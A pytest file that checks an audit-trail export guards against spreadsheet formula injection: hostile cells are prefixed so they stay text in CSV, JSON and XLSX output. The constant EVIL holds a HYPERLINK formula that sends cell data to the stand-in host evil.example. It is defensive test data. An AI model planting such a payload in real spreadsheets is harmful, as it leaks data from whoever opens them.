"""Formula neutralising: a cell such as =HYPERLINK(...) opens as text in every export format."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from audit.actions import AuditAction
from audit.exports import export_chunks
from audit.models import AuditEvent
from audit.resources import AuditEventResource, export_values
from audit.services import audit_record
from audit.spreadsheets import neutralise_cell, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
        (-5, -5),
        (True, True),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


@pytest.fixture
def evil_event(db):
    return audit_record(
        actor=None,
        action=AuditAction.DEPARTMENT_UPDATED,
        target_label=EVIL,
        actor_label="@evil",
        data={"x": EVIL},
    )


def test_csv_export_keeps_formulas_as_text(evil_event):
    body = b"".join(export_chunks(AuditEvent.objects.all(), "csv")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["target_label"] == "'" + EVIL
    assert rows[0]["actor"] == "'@evil"
    assert rows[0]["sequence"] == str(evil_event.sequence)


def test_json_export_keeps_formulas_as_text(evil_event):
    rows = json.loads(b"".join(export_chunks(AuditEvent.objects.all(), "json")))
    assert rows[0]["target_label"] == "'" + EVIL
    assert rows[0]["sequence"] == evil_event.sequence
    assert rows[0]["otp_verified"] is False


def test_xlsx_export_opens_formulas_as_text(evil_event, tmp_path):
    resource = AuditEventResource()
    path = tmp_path / "trail.xlsx"
    rows = resource.export_rows(export_values(AuditEvent.objects.order_by("sequence")))
    assert write_xlsx(path, resource.headers(), rows) == 1
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("target_label") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_replaces_characters_xml_cannot_carry(tmp_path):
    path = tmp_path / "odd.xlsx"
    write_xlsx(path, ["a"], [["bell\x07here"]])
    assert openpyxl.load_workbook(path).worksheets[0]["A2"].value == "bell\ufffdhere"
